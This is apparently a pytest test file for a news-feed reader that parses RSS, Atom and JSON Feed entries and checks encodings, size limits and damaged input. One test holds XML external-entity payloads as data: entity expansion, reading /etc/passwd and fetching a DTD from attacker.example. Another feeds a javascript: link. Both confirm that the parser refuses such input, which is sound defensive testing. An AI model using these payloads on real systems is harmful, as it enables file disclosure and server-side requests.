"""Feeds as pages: RSS, Atom and JSON Feed, whole texts and summaries, honest and hostile."""

from __future__ import annotations

import io
import json
import tracemalloc
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sayso.model import Capture, Failure
from sayso.read import read_document
from sayso.read.containers.budget import Budget
from sayso.read.containers.feeds import open_feed
from sayso.read.containers.said import absolute

if TYPE_CHECKING:
    from collections.abc import Sequence

BODY = "<p>The harbour was closed on Monday, the port authority said.</p><p>It gave no reason.</p>"
ESCAPED = BODY.replace("&", "&amp;").replace("<", "&lt;")
SAID = {
    "title": "Harbour closed",
    "outlet": "The Herald",
    "published": "2022-03-03T10:15:00+00:00",
    "authors": "Ann Lee",
    "language": "en",
    "url": "https://herald.example/a",
}

RSS_2 = f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
 xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/">
<channel><title>The Herald</title><link>https://herald.example/</link><language>en-gb</language>
<image><title>A picture</title><link>https://pictures.example/</link></image>
<item><title>Harbour closed</title><media:title>A ship</media:title><link>https://herald.example/a</link>
<guid isPermaLink="false">herald-1</guid><dc:creator>Ann Lee</dc:creator>
<pubDate>Thu, 03 Mar 2022 10:15:00 GMT</pubDate><description>The harbour was closed.</description>
<content:encoded><![CDATA[{BODY}]]></content:encoded></item></channel></rss>"""

RSS_1 = f"""<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
 xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/"
 xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel rdf:about="https://herald.example/"><title>The Herald</title><link>https://herald.example/</link>
<dc:language>en</dc:language></channel>
<item rdf:about="herald-1"><title>Harbour closed</title><link>https://herald.example/a</link>
<dc:creator>Ann Lee</dc:creator><dc:date>2022-03-03T10:15:00Z</dc:date>
<content:encoded>{ESCAPED}</content:encoded></item></rdf:RDF>"""

ATOM = f"""<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom" xml:lang="en"
 xml:base="https://herald.example/"><title>The Herald</title><author><name>Ann Lee</name></author>
<link rel="self" href="https://feeds.example/x"/>
<entry xml:lang="en"><title type="html">Harbour &lt;b>closed&lt;/b></title><id>herald-1</id>
<link rel="edit" href="/edit"/><link rel="alternate" href="a"/>
<updated>2022-03-04T00:00:00Z</updated><published>2022-03-03T10:15:00Z</published>
<content type="html">{ESCAPED}</content></entry></feed>"""

XHTML = ATOM.replace(
    f'<content type="html">{ESCAPED}</content>',
    f'<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">{BODY}</div></content>',
)

JSON = json.dumps(
    {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "The Herald",
        "language": "en-GB",
        "home_page_url": "https://herald.example/",
        "items": [
            {
                "id": "herald-1",
                "url": "a",
                "title": "Harbour closed",
                "authors": [{"name": "Ann Lee"}],
                "content_html": BODY,
                "date_published": "2022-03-03T10:15:00Z",
            }
        ],
    }
)

FORMS = {"RSS 2.0": RSS_2, "RSS 1.0": RSS_1, "Atom": ATOM, "Atom with XHTML": XHTML, "JSON Feed": JSON}


def read(
    data: str | bytes, budget: Budget | None = None, address: str | None = None
) -> list[Capture | Failure]:
    raw = data.encode() if isinstance(data, str) else data
    return list(open_feed(io.BytesIO(raw), "f.xml", budget or Budget(), address))


def captures(found: Sequence[Capture | Failure]) -> list[Capture]:
    return [item for item in found if isinstance(item, Capture)]


def problems(found: Sequence[Capture | Failure]) -> list[str]:
    failures = [item for item in found if isinstance(item, Failure)]
    for failure in failures:
        assert failure.problem.startswith(f"{failure.name}: ")
        assert "\n" not in failure.problem
    return [failure.problem for failure in failures]


def rss(items: str, before: str = "") -> str:
    return f"<?xml version='1.0'?>{before}<rss><channel><title>The Herald</title>{items}</channel></rss>"


@pytest.mark.parametrize("form", FORMS)
def test_an_entry_is_a_page_with_what_the_feed_says_of_it(form: str) -> None:
    found = read(FORMS[form])
    (page,) = captures(found)
    assert page.name == "f.xml!/herald-1"
    assert dict(page.supplied) == SAID
    assert page.address == "https://herald.example/a"
    assert page.media_type == "text/html"
    assert BODY in page.data.decode()
    document = read_document(page)
    assert "It gave no reason." in document.text
    assert document.outlet == "The Herald"


@pytest.mark.parametrize("form", FORMS)
def test_whole_texts_are_not_called_summaries(form: str) -> None:
    assert problems(read(FORMS[form])) == []


def test_an_entry_with_only_a_summary_is_read_and_said_to_be_one() -> None:
    found = read(rss("<item><link>https://a.example/1</link><description>Short words.</description></item>"))
    (page,) = captures(found)
    assert (page.data, page.media_type) == (b"Short words.", "text/plain")
    assert page.name == "f.xml!/https://a.example/1"
    assert problems(found) == []
    assert "only a summary" in page.supplied["note"]
    assert "--follow" in page.supplied["note"]


@pytest.mark.parametrize("end", ["[…]", "[...]", "<a href='x'>Continue reading</a>", "Read more »</p>"])
def test_content_that_ends_in_a_teaser_is_a_summary_too(end: str) -> None:
    data = json.loads(JSON)
    data["items"][0]["content_html"] = "<p>" + "word " * 300 + end
    assert "only a summary" in captures(read(json.dumps(data)))[0].supplied["note"]
    data["items"][0]["content_html"] = "<p>He told them to read more books.</p><p>" + "Others spoke too. " * 9
    assert "note" not in captures(read(json.dumps(data)))[0].supplied


def test_a_long_description_is_the_whole_text() -> None:
    words = "The minister said so. " * 100
    (page,) = captures(read(rss(f"<item><description>{words}</description></item>")))
    assert "note" not in page.supplied


def test_many_entries_without_text_are_told_singly_and_then_counted() -> None:
    found = read(
        rss("<item><title>T</title></item>" * 50 + "<item><description>Words.</description></item>" * 9)
    )
    assert len({page.name for page in captures(found)}) == 9
    assert sum("30 more entries" in problem for problem in problems(found)) == 1
    assert sum("no text of it" in problem for problem in problems(found)) == 20


def test_markup_that_was_not_escaped_is_kept() -> None:
    (page,) = captures(read(rss("<item><description>Lee <b>said</b> &lt; so.<br/></description></item>")))
    assert page.data == b"Lee <b>said</b> &lt; so.<br>"


def test_names_of_characters_that_xml_does_not_know_are_read() -> None:
    (page,) = captures(
        read(rss("<item><description>caf&eacute;&nbsp;au&hellip; &amp;amp; x</description></item>"))
    )
    assert page.data.decode() == "café\xa0au… &amp; x"
    assert page.media_type == "text/html"


@pytest.mark.parametrize(
    ("declared", "encoding"),
    [
        ("utf-8", "utf-8"),
        ("iso-8859-1", "iso-8859-1"),
        ("utf-8", "cp1252"),
        ("utf-16", "utf-16"),
        ("windows-1251", "cp1251"),
    ],
)
def test_encodings_are_found_out(declared: str, encoding: str) -> None:
    word = "Мэр сказал" if encoding == "cp1251" else "Le café a brûlé à Orléans, a déclaré le préfet"
    feed = (
        f"<?xml version='1.0' encoding='{declared}'?>"
        + rss(f"<item><description>{word}</description></item>")[21:]
    )
    (page,) = captures(read(feed.encode(encoding)))
    assert page.data.decode() == word


@pytest.mark.parametrize(
    "declarations",
    [
        '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">',
        '<!ENTITY x SYSTEM "file:///etc/passwd">',
        '<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;',
    ],
)
def test_entities_are_refused_in_one_sentence(declarations: str) -> None:
    found = read(rss("<item><description>&a;&x;</description></item>", f"<!DOCTYPE rss [{declarations}]>"))
    assert captures(found) == []
    assert len(problems(found)) == 1
    assert "entities" in problems(found)[0]


def test_the_document_type_of_rss_0_91_is_harmless() -> None:
    kind = '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.com/rss-0.91.dtd">'
    assert len(captures(read(rss("<item><description>Words.</description></item>", kind)))) == 1


def test_a_cut_feed_gives_its_entries_and_says_that_it_is_cut() -> None:
    feed = rss("<item><description>One.</description></item>" * 3 + "<item><description>Tw")
    cut = feed[: feed.index("Tw") + 2]
    found = read(cut)
    assert len(captures(found)) == 4
    assert "not well-formed XML" in problems(found)[-1]


@pytest.mark.parametrize(
    ("data", "what"),
    [
        ("", "not well-formed"),
        ("no xml", "not well-formed"),
        ("<html><body>x</body></html>", "not a feed"),
        ("<rss><channel/></rss>", "no entries"),
        ('{"items": 3}', "not a feed"),
        ("{broken", "not valid JSON"),
        ('{"a":' * 50_000, "not valid JSON"),
        ("<a>" * 3000, "not a feed"),
    ],
)
def test_what_is_no_feed_is_one_failure(data: str, what: str) -> None:
    (problem,) = problems(read(data))
    assert what in problem


def test_entries_of_collected_feeds_are_from_where_they_say() -> None:
    item = "<item><source url='https://t.example'>The Times</source><description>Words.</description></item>"
    assert captures(read(rss(item)))[0].supplied["outlet"] == "The Times"


def test_dates_and_links_that_cannot_be_used_are_left_out_and_said() -> None:
    start = "<item><link>javascript:alert(1)</link><pubDate>soon</pubDate>"
    item = f"{start}<description>Words.</description></item>"
    found = read(rss(item))
    assert captures(found)[0].address is None
    assert "'soon'" in captures(found)[0].supplied["note"]


@pytest.mark.parametrize(
    ("link", "base", "address"),
    [
        ("/a?b=1", "https://h.example/feed", "https://h.example/a?b=1"),
        ("https://h.example/a", None, "https://h.example/a"),
        ("a", None, None),
        ("mailto:a@b.example", "https://h.example/", None),
        ("http://[broken", None, None),
        ("http://h.example/a b", None, None),
        ("x" * 5000, "https://h.example/", None),
    ],
)
def test_links_become_absolute_or_nothing(link: str, base: str | None, address: str | None) -> None:
    assert absolute(link, base) == address


def test_limits_are_kept() -> None:
    feed = rss(
        "<item><description>"
        + "word " * 1000
        + "</description></item><item><description>Two.</description></item>"
    )
    found = read(feed, Budget(largest_member=3000))
    assert [page.data for page in captures(found)] == [b"Two."]
    assert "more than 3,000 bytes" in problems(found)[0]
    assert (
        "larger than any page"
        in problems(read(rss("<item>" + "<a/>" * 200_000 + "</item>"), Budget(largest_member=1000)))[0]
    )
    assert (
        "more than 1 members"
        in problems(read(RSS_2.replace("</item>", "</item><item/>"), Budget(members=1)))[-1]
    )
    assert "more than 100 bytes" in problems(read(RSS_2, Budget(total=100)))[-1]


def test_a_feed_of_any_length_stays_flat_in_memory() -> None:
    class Long(io.BytesIO):
        left = 12

        def read(self, size: int | None = -1) -> bytes:
            assert size is not None
            self.left -= 1
            start = b"<rss><channel><title>T</title>" if self.left == 11 else b""
            return (
                start + b"<item><description>Words of a page.</description></item>" * 400
                if self.left > 0
                else b""
            )

    found = open_feed(Long(), "f.xml", Budget())
    next(found)
    tracemalloc.start()
    try:
        assert sum(isinstance(item, Capture) for item in found) == 11 * 400 - 1
        assert tracemalloc.get_traced_memory()[1] < 2_000_000
    finally:
        tracemalloc.stop()


@given(
    st.sampled_from([form.encode() for form in FORMS.values()]),
    st.lists(
        st.tuples(
            st.integers(0, 1200),
            st.sampled_from([b"", b"<", b"&", b">", b"]]>", b"\x00\xff", b"</item>", b"{", b'"']),
        ),
        max_size=5,
    ),
)
def test_damaged_feeds_give_only_pages_and_sentences(valid: bytes, cuts: list[tuple[int, bytes]]) -> None:
    data = valid
    for at, put in cuts:
        data = data[:at] + put + data[at + 3 :]
    found = read(data)
    problems(found)
    assert found
    assert len({page.name for page in captures(found)}) == len(captures(found))
